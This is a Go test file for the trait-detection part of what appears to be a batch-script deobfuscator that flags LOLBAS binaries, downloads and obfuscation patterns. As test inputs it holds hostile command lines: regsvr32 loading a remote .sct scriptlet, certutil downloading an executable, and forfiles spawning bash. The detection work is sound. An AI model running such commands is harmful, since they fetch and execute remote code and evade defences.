package traits

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/assert"

	"github.com/aledsdavies/batchdeob/pkgs/interpreter"
)

func TestMatcher(t *testing.T) {
	m := NewMatcher(nil)

	assert.Equal(t, []string{"regsvr32"}, m.Match(`REGSVR32 /s /n /u /i:http://x/a.sct scrobj.dll`))
	assert.Equal(t, []string{"forfiles", "bash"}, m.Match("ForFiles /p c:\\ /c \"bash -c id\""))
	assert.Nil(t, m.Match("echo hello"))

	custom := NewMatcher([]string{"CertUtil", ""})
	assert.Equal(t, []string{"CertUtil"}, custom.Match("certutil -urlcache -f http://x a.exe"))
}

func TestRecordPresent(t *testing.T) {
	var r Record
	assert.Empty(t, r.Present())

	r.AddExpansion("echo plain", "echo plain", false, 0)
	assert.Empty(t, r.Present())

	r.AddExpansion("%a%b", "xb", true, 1)
	r.AddGrouping("%x%", "a & b")
	r.AddBinaries("msbuild x.proj", []string{"msbuild"})
	r.AddDownloads(interpreter.Download{Command: "curl -O http://h/a", Src: "http://h/a", Dst: "a"})
	r.OneLiner = true
	r.ComplexOneLiner = 5

	expected := []string{StartWithVar, VarUsed, CommandGrouping, LOLBAS, Download, OneLiner, ComplexOneLiner}
	if diff := cmp.Diff(expected, r.Present()); diff != "" {
		t.Errorf("Present mismatch (-expected +actual):\n%s", diff)
	}
	assert.Len(t, r.VarUsed, 2)
	assert.Len(t, r.StartWithVar, 1)
}

func TestCatalog(t *testing.T) {
	assert.Len(t, Names(), len(Catalog))
	info, ok := Lookup(LOLBAS)
	assert.True(t, ok)
	assert.Contains(t, info.Description, "dual-use")
	_, ok = Lookup("nope")
	assert.False(t, ok)
}
